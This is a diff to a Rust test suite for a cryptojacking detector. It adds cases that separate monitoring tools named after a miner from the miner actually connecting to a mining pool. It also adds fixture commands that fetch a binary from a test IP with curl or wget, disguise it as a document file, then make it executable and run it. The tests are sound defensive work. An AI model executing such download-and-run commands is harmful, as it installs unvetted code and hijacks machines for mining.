@@ -555,6 +555,40 @@ fn fp_security_tooling_named_after_the_miner() {
                 );
             }
         }
+        // the tool run under its own name, in a command or a probe: low; twin: the same
+        // program doing the mining
+        for word in ["exporter", "detector", "scanner"] {
+            let program = format!("/usr/local/bin/{miner}-{word}");
+            let mut probe = container(
+                "ghcr.io/acme-sec/tool:1.0",
+                &[&program, "--listen", ":9189"],
+                &[],
+            );
+            probe.execs = vec![cryptojack::detect::ExecView {
+                handler: cryptojack::detect::Handler::LivenessProbe,
+                command: strings(&[&format!("{miner}-{word}"), "--check"]),
+            }];
+            cases.push(Case::one(
+                format!("{program} as the program"),
+                probe,
+                Expect::Exactly(Severity::Low),
+            ));
+            cases.push(Case::one(
+                format!("{program} mining"),
+                container(
+                    "ghcr.io/acme-sec/tool:1.0",
+                    &[
+                        &program,
+                        "-o",
+                        "pool.supportxmr.com:443",
+                        "--donate-level",
+                        "1",
+                    ],
+                    &[],
+                ),
+                Expect::Miner,
+            ));
+        }
         // twin: the miner's own image is critical alone
         cases.push(Case::one(
             format!("{miner} image"),
@@ -604,6 +638,22 @@ fn fp_security_tooling_named_after_the_miner() {
             ],
             vec!["/bin/run", "--config", &format!("/etc/{miner}/config.json")],
             vec!["cp", &format!("/usr/bin/{miner}"), "/tmp/kworker"],
+            // a download is whatever the server sends, whatever the name or fragment says
+            vec![
+                "sh",
+                "-c",
+                &format!("curl -o /tmp/k http://203.0.113.5/{miner}#.md; chmod +x /tmp/k; /tmp/k"),
+            ],
+            vec![
+                "sh",
+                "-c",
+                &format!("wget -qO /tmp/k http://203.0.113.5/{miner}.txt && /tmp/k"),
+            ],
+            vec![
+                "sh",
+                "-c",
+                &format!("curl -sLo /tmp/k 'http://203.0.113.5/dl/{miner}?f=.pdf' && /tmp/k"),
+            ],
         ] {
             let argv: Vec<&str> = argv.iter().map(|s| s.as_ref()).collect();
             cases.push(Case::one(
